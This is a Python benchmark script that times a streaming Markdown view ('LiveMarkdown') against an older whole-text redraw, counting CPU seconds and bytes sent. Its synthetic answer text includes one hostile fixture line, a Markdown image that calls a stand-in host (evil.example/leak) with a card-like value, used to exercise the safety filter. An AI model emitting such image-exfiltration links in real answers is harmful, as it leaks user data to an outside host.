"""Benchmark the live answer's redraws: Kantu's split view against the old whole-text redraw.

Run ``python bench/live_markdown.py``. An answer of prose paragraphs, lists, code and links
(with a hostile line now and then) arrives in fixed deltas; after every delta the view is drawn
(the worst case: no frame is skipped). The old way made the whole text safe and sent all of it
on each redraw; ``LiveMarkdown`` writes each finished block once and redraws only the open tail.
For each size it prints CPU seconds and the Markdown bytes sent to the browser, both ways, and
their ratios, measured in the same run. Linear work keeps Kantu's column growing with the size;
the old way grows with its square.
"""

from __future__ import annotations

import sys
import time
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from components.text.markdown_safety import safe_partial_markdown  # noqa: E402
from components.ui.markdown_view import LiveMarkdown  # noqa: E402

PARAGRAPHS = [
    "The picture shows a **receipt** from a café; the total is `42.50` and the date 3 May.\n\n",
    "- coffee: 4.50\n- cake: 6.00\n- see [the menu](https://example.org/menu)\n\n",
    "```python\ntotal = sum([4.50, 6.00])\n```\n\n",
    "A note in the corner says ![x](http://evil.example/leak?q=card-4242) — shown as text.\n\n",
    "| item | price |\n|---|---|\n| tea | 3.00 |\n\n",
]
DELTA = 400  # characters per delta (a burst of tokens between two redraws)


class Counter:
    """A stand-in for a Streamlit container: counts the Markdown bytes written into it."""

    def __init__(self) -> None:
        self.sent = 0

    def markdown(self, body: str, **_: Any) -> None:
        self.sent += len(body.encode("utf-8"))

    def container(self) -> Counter:
        return self

    def empty(self) -> Counter:
        return self


def answer(size: int) -> str:
    text, i = "", 0
    while len(text) < size:
        text += PARAGRAPHS[i % len(PARAGRAPHS)]
        i += 1
    return text[:size]


def old_way(text: str) -> tuple[float, int]:
    """Every redraw makes the whole text safe and sends it whole."""
    sent, start = 0, time.process_time()
    for end in range(DELTA, len(text) + DELTA, DELTA):
        sent += len(safe_partial_markdown(text[:end]).encode("utf-8"))
    return time.process_time() - start, sent


def kantu(text: str) -> tuple[float, int]:
    """Every redraw through ``LiveMarkdown``: finished blocks once, the tail again."""
    where = Counter()
    view = LiveMarkdown(where)
    start = time.process_time()
    for end in range(DELTA, len(text) + DELTA, DELTA):
        view.update(text[:end], force=True)
    return time.process_time() - start, where.sent


def main() -> None:
    sizes = [int(arg) for arg in sys.argv[1:]] or [25_000, 50_000, 100_000]
    print(f"{'chars':>9} {'old s':>8} {'kantu s':>8} {'ratio':>6} {'old MB':>8} {'kantu MB':>9}")
    for size in sizes:
        text = answer(size)
        old_s, old_b = old_way(text)
        new_s, new_b = kantu(text)
        print(
            f"{size:>9,} {old_s:>8.2f} {new_s:>8.2f} {old_s / max(new_s, 1e-9):>6.1f}"
            f" {old_b / 1e6:>8.2f} {new_b / 1e6:>9.3f}"
        )
    big = answer(1_000_000)
    new_s, new_b = kantu(big)
    print(f"1,000,000 chars, Kantu only: {new_s:.2f} CPU s, {new_b / 1e6:.2f} MB sent")


if __name__ == "__main__":
    main()
